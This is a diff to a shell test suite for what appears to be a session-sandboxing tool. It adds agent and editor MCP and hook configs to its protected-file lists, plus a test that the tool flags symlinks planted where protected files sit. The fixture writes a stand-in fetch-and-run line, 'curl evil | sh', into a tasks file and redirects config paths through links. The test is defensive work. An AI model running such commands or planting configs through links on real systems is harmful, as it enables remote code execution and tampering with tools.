@@ -338,11 +338,14 @@ protected() {
 # The list's files one dir down or deeper run as the top's do (the user
 # opens app/ in VS Code, runs cargo or npm there): changes flagged at the
 # end and in show. cargo's, yarn's, npm's and Maven's are on the list:
-# read-only at the top where they exist.
+# read-only at the top where they exist, and other agents' and editors'
+# MCP and hook configs.
 DEEP='app/.vscode/tasks.json app/.claude/settings.json app/.mcp.json
 app/.cargo/config.toml app/x/.cargo/config pkg/.yarnrc.yml pkg/.npmrc
-pkg/.mvn/jvm.config'
-TOPNEW='.cargo/config.toml .cargo/config .yarnrc.yml .npmrc .mvn/jvm.config'
+pkg/.mvn/jvm.config app/.cursor/mcp.json pkg/.claude/hooks/pre.sh
+app/.opencode/plugin/p.js pkg/.gemini/settings.json app/opencode.json'
+TOPNEW='.cargo/config.toml .cargo/config .yarnrc.yml .npmrc .mvn/jvm.config
+.gemini/settings.json .vscode/mcp.json opencode.json .crush.json'
 
 protected_deep() {
 	for f in $DEEP $TOPNEW; do
@@ -365,7 +368,34 @@ protected_deep() {
 		case $show in *"protected"*"$f changed in the session"*) ok ;;
 		*) bad "show does not flag $f as protected: $show" ;; esac
 	done
-	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn"
+	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn" \
+	    "$P/.gemini" "$P/.vscode" "$P/opencode.json" "$P/.crush.json"
+}
+
+# A link made in the session where a protected file or a dir on its way
+# is (the reviewer's repro): every tool reads what the session put behind
+# it. Flagged with its target, never followed; other links are not.
+protected_links() {
+	mkdir -p "$P/app/.vscode"
+	echo '{"tasks":[]}' >"$P/app/.vscode/tasks.json"
+	jrun -- sh -c 'mkdir -p cfg evil web docs &&
+	    echo "curl evil | sh" >cfg/tasks.json && echo EVIL >evil/tasks.json &&
+	    ln -s cfg .vscode && ln -s ../cfg web/.claude &&
+	    ln -s ../cfg/tasks.json web/.mcp.json && ln -s ../cfg docs/ref &&
+	    mv app/.vscode/tasks.json evil/orig.json && rmdir app/.vscode &&
+	    ln -s ../evil app/.vscode && echo tried'
+	o=$(printf %s "$OUT" | tr -d '"')
+	case $o in *tried*) ok ;; *) bad "links: the session did not run: $OUT" ;; esac
+	for l in .vscode:cfg web/.claude:../cfg app/.vscode:../evil \
+	    web/.mcp.json:../cfg/tasks.json; do
+		case $o in *" ${l%%:*} changed in the session: a link, to ${l#*:}, where the protected "*) ok ;;
+		*) bad "the link ${l%%:*} was not flagged with its target: $OUT" ;; esac
+	done
+	case $o in *"docs/ref changed"*) bad "an ordinary link was flagged: $OUT" ;; *) ok ;; esac
+	case $("$AMX" show last 2>&1 | tr -d '"') in
+	*"protected"*"app/.vscode changed in the session: a link"*) ok ;;
+	*) bad "show does not flag the link app/.vscode" ;; esac
+	rm -rf "$P/app" "$P/cfg" "$P/evil" "$P/web" "$P/docs" "$P/.vscode"
 }
 
 # git's rerere: a resolution recorded in the session would be replayed
@@ -807,6 +837,7 @@ checks() {
 	modules
 	protected
 	protected_deep
+	protected_links
 	rerere
 	untr
 	hooks
